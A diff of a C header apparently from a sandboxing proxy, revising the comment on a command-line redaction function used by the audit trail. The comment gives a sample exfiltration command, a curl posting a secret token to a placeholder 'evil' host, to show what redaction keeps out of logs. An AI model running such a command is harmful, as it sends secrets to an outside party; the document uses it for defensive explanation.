@@ -53,10 +53,12 @@ int px_netns_run(int netns_fd, int (*fn)(void *arg), void *arg);
  * Returns the fd or -errno; err says which step failed. */
 int px_netns_socket(int netns_fd, int type, const char *ip, int port, char *err, size_t errlen);
 
-/* A command line as the audit trail keeps it (the proxy's rule, decide.c):
- * the program, its flags, the scheme://host[:port] of URLs; every other
+/* A command line as the audit trail keeps it (redact.c; the proxy, the
+ * catcher and sandbox exec's PROC events use it): the program, option
+ * names, the scheme://host[:port] of URLs (no user:password@); every other
  * value becomes <redacted>, so `curl -d "token=$SECRET" https://evil/` does
- * not copy the secret into the logs. Arguments separated by spaces. */
+ * not copy the secret into the logs. Arguments separated by spaces; out is
+ * always NUL-terminated (cut at n). */
 void px_cmdline_redact(const char *in, char *out, size_t n);
 
 /* ---- the DNS responder (dns.c) --------------------------------------------------- */
